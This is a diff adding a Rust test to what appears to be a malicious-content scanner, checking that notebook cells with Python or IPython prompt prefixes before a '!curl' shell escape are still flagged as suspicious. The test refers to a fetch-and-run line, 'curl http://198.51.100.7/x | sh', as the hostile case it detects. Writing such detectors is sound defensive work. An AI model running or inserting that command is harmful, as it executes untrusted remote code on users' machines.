@@ -261,3 +261,21 @@ fn commands_in_several_keys() {
     let pod = "containers:\n- command: [sh, -c]\n  args:\n  - |\n    pip install vllm\n    exec python -m vllm.entrypoints.openai.api_server\n";
     assert_eq!(outcome("pod.yaml", pod.as_bytes()), Outcome::Clean);
 }
+
+/// Prompts that were copied along with the code are not part of it.
+#[test]
+fn cells_as_ipython_reads_them() {
+    for cell in [
+        ">>> !curl",
+        "In [1]: !curl",
+        "1\\n   ...: !curl",
+        ">>> %%bash\\n... curl",
+        "\\n  >>> x = 1\\n  >>> !curl",
+    ] {
+        let text = NOTEBOOK.replace("!curl", cell);
+        assert!(outcome("a.ipynb", text.as_bytes()) >= Outcome::Suspicious, "{cell}");
+    }
+    let shown =
+        NOTEBOOK.replace("!curl http://198.51.100.7/x | sh", ">>> import numpy\\n>>> numpy.zeros(3)\\n");
+    assert_eq!(outcome("a.ipynb", shown.as_bytes()), Outcome::Clean);
+}
